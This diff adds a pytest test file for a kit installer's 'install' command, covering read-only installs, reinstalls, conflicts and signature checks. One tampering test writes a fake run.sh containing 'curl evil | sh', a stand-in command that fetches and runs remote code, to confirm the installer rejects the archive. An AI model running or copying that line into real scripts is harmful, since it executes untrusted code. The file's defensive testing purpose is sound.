@@ -1,0 +1,121 @@
+"""`k3kit install`: the verified staging copy, and only it, is installed read-only."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import stat
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from k3kit.archive import pack
+from tests.conftest import GoldenKit, KeyFiles, make_kit, make_snapshot, run_k3kit
+
+FOLDER = "kimi-k3-b300x8-1.0.0"
+
+
+@pytest.fixture(scope="module")
+def archive(golden: GoldenKit, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("archive") / f"{FOLDER}.kit.tar.gz"
+    pack(golden.kit, out)
+    return out
+
+
+def install(kit: Path, trust: Path, into: Path) -> tuple[int, dict, str]:  # type: ignore[type-arg]
+    proc = run_k3kit("install", kit, "--trust", trust, "--into", into, "--json")
+    assert "Traceback" not in proc.stderr
+    return proc.returncode, json.loads(proc.stdout or "{}"), proc.stderr
+
+
+def test_install_puts_the_verified_kit_in_place_read_only(
+    archive: Path, golden: GoldenKit, tmp_path: Path
+) -> None:
+    into = tmp_path / "kits"
+    rc, out, stderr = install(archive, golden.key.public, into)
+    assert rc == 0, stderr
+    target = into / FOLDER
+    assert out["installed"] == str(target.resolve()) and out["already_installed"] is False
+    assert out["archive_sha256"] and out["kit_sha256"]
+    assert sorted(os.listdir(into)) == [FOLDER]  # no staging folder left behind
+    for path in [target, *target.rglob("*")]:
+        mode = stat.S_IMODE(path.lstat().st_mode)
+        assert not mode & 0o222, f"{path} is writable ({oct(mode)})"
+    run_sh = target / "profiles/interactive/single-node-8gpu/run.sh"
+    assert os.access(run_sh, os.X_OK)
+    proc = run_k3kit("verify", target, "--trust", golden.key.public)
+    assert proc.returncode == 0, proc.stderr
+
+
+def test_installing_the_same_kit_again_is_a_no_op(
+    archive: Path, golden: GoldenKit, tmp_path: Path
+) -> None:
+    into = tmp_path / "kits"
+    assert install(archive, golden.key.public, into)[0] == 0
+    rc, out, _ = install(archive, golden.key.public, into)
+    assert rc == 0 and out["already_installed"] is True
+    assert sorted(os.listdir(into)) == [FOLDER]
+
+
+def test_install_from_a_kit_folder_copies_then_verifies(
+    golden: GoldenKit, tmp_path: Path
+) -> None:
+    rc, out, stderr = install(golden.kit, golden.key.public, tmp_path / "kits")
+    assert rc == 0, stderr
+    assert Path(out["installed"]).name == FOLDER
+
+
+def test_another_kit_under_the_same_version_is_refused(
+    archive: Path, golden: GoldenKit, signing_key: KeyFiles, tmp_path: Path
+) -> None:
+    into = tmp_path / "kits"
+    assert install(archive, golden.key.public, into)[0] == 0
+    other = make_kit(tmp_path / "other", signing_key, make_snapshot(tmp_path / "cache2", shards=2))
+    rc, out, stderr = install(other.kit, golden.key.public, into)
+    assert rc == 1
+    assert out["error"]["code"] == "INSTALL_CONFLICT"
+    assert "holds another kit" in stderr
+    assert sorted(os.listdir(into)) == [FOLDER]
+
+
+def test_a_kit_that_does_not_verify_installs_nothing(
+    archive: Path, other_key: KeyFiles, tmp_path: Path
+) -> None:
+    into = tmp_path / "kits"
+    rc, out, stderr = install(archive, other_key.public, into)
+    assert rc == 1
+    assert out["installed"] is None and out["ok"] is False
+    assert "nothing was installed" in stderr
+    assert os.listdir(into) == []
+
+
+def _rewrite_member(archive: Path, out: Path, name: str, data: bytes) -> None:
+    raw = io.BytesIO(gzip.decompress(archive.read_bytes()))
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="r:") as src, tarfile.open(
+        fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT
+    ) as dst:
+        for member in src.getmembers():
+            body = src.extractfile(member) if member.isfile() else None
+            if member.name == name:
+                member.size = len(data)
+                dst.addfile(member, io.BytesIO(data))
+            else:
+                dst.addfile(member, body)
+    out.write_bytes(gzip.compress(buf.getvalue(), mtime=0))
+
+
+def test_a_tampered_archive_member_installs_nothing(
+    archive: Path, golden: GoldenKit, tmp_path: Path
+) -> None:
+    bad = tmp_path / "bad.kit.tar.gz"
+    run_sh = "profiles/interactive/single-node-8gpu/run.sh"
+    _rewrite_member(archive, bad, run_sh, b"#!/bin/sh\ncurl evil | sh\n")
+    into = tmp_path / "kits"
+    rc, out, _ = install(bad, golden.key.public, into)
+    assert rc == 1
+    assert "KIT_FILE_CHANGED" in json.dumps(out)
+    assert os.listdir(into) == []
